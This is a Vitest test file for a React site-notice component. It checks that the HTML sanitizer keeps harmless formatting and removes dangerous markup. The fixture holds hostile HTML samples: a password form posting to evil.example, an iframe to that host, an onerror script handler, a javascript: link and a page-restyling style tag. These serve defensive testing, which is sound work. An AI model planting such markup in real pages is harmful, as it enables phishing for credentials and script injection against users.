// @vitest-environment jsdom
// The real sanitizer runs here, and DOMPurify does not work in happy-dom (cure53/DOMPurify#1457).
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { render, screen } from '@testing-library/react';
import { SiteNotice } from '@/layout/site-notice';
import { jsonResponse } from '@/test/factories';

/** A notice as an audit wrote it: a page-wide <style>, a password form, a frame, handlers and a javascript: link. */
const HOSTILE_NOTICE = [
  '<style>body { background: red !important }</style>',
  '<h3>维护通知</h3>',
  '<p style="position:fixed;inset:0">今晚 <b>22:00</b> 起维护，详见<a href="https://status.example.com/">状态页</a>。</p>',
  '<form action="https://evil.example/login"><input name="password" type="password"><button>重新登录</button></form>',
  '<iframe src="https://evil.example/"></iframe>',
  '<img src="https://cdn.example.com/notice.png" alt="公告图" onerror="window.hacked = 1">',
  '<a href="javascript:alert(1)">点我</a>',
  '<ul><li>渠道切换</li></ul>',
].join('');

const fetchMock = vi.fn<typeof fetch>();

beforeEach(() => {
  fetchMock.mockResolvedValue(jsonResponse({ success: true, message: '', data: HOSTILE_NOTICE }));
  vi.stubGlobal('fetch', fetchMock);
});

afterEach(() => {
  vi.unstubAllGlobals();
});

describe(SiteNotice.name, () => {
  it('shows the notice with its formatting and without what could restyle the page, ask for input or run code', async () => {
    const pageBackground = getComputedStyle(document.body).backgroundColor;
    render(<SiteNotice />);
    const heading = await screen.findByRole('heading', { level: 3, name: '维护通知' });
    const body = heading.parentElement!;

    expect(screen.getByText('22:00').tagName).toBe('B');
    expect(screen.getByRole('link', { name: '状态页' }).getAttribute('href')).toBe('https://status.example.com/');
    expect(screen.getByAltText('公告图').getAttribute('src')).toBe('https://cdn.example.com/notice.png');
    expect(screen.getByRole('listitem').textContent).toBe('渠道切换');

    expect(getComputedStyle(document.body).backgroundColor).toBe(pageBackground);
    expect(body.querySelectorAll('style, form, input, button, iframe, [style], [onerror]')).toHaveLength(0);
    expect(screen.getByText('点我').hasAttribute('href')).toBe(false);
  });
});
